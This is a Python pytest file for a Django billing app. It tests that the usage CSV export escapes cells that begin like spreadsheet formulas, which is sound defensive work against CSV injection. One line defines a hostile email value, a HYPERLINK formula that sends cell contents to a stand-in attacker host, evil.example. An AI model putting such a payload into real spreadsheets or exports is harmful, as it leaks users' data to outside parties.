"""The usage CSV cannot carry a formula into a spreadsheet (issue 18, item 15): a cell that starts
with ``= + - @`` (or a tab or carriage return) is written with a leading ``'``. The export is fed
by the engine's real ledger rows, on a priced model."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from apps.accounts.models import Membership, Role, User
from apps.billing.views import csv_cell
from apps.core.ids import public_id
from apps.core.scoping import org_scope
from apps.generations import services
from apps.generations.models import State
from apps.generations.services import GenerationRequest
from tests.generations.helpers import ledger_of, run_steps

pytestmark = pytest.mark.django_db

HOSTILE = '=hyperlink("https://evil.example/?"&a1,"x")@example.com'  # emails are stored lower-case


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_quoted(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["alice@example.com", "sandbox-video", "a=b", "", 3, "2.0000"])
def test_other_cells_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_the_export_quotes_a_hostile_member_email(tenants, settings, priced_sandbox):
    settings.SANDBOX_JOB_SECONDS = 0.3
    mallory = User.objects.create_user(HOSTILE, "correct horse battery staple")
    with org_scope(tenants.org_a):
        Membership.objects.create(
            organization=tenants.org_a, user=mallory, role=Role.MEMBER, public_id=public_id("mem")
        )
        gen = services.generation_create(
            org=tenants.org_a,
            user=mallory,
            request=GenerationRequest(model="sandbox-video", prompt="-2+3", seconds=4, size="1280x720"),
        )
    gen = run_steps(gen)
    assert gen.state == State.COMPLETED
    ledger = ledger_of(gen)
    assert ledger["charge"] == [gen.final_cost] and gen.final_cost == 2  # 4 s at $0.50

    today = timezone.localdate().isoformat()
    page = tenants.client_for(tenants.alice)
    r = page.get(f"/o/{tenants.org_a.slug}/usage/", {"start": today, "end": today, "format": "csv"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    assert rows[0] == ["date", "provider", "model", "member", "videos", "seconds", "cost_usd"]
    assert rows[1:] == [[today, "sandbox", "sandbox-video", "'" + HOSTILE, "1", "4", "2.0000"]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
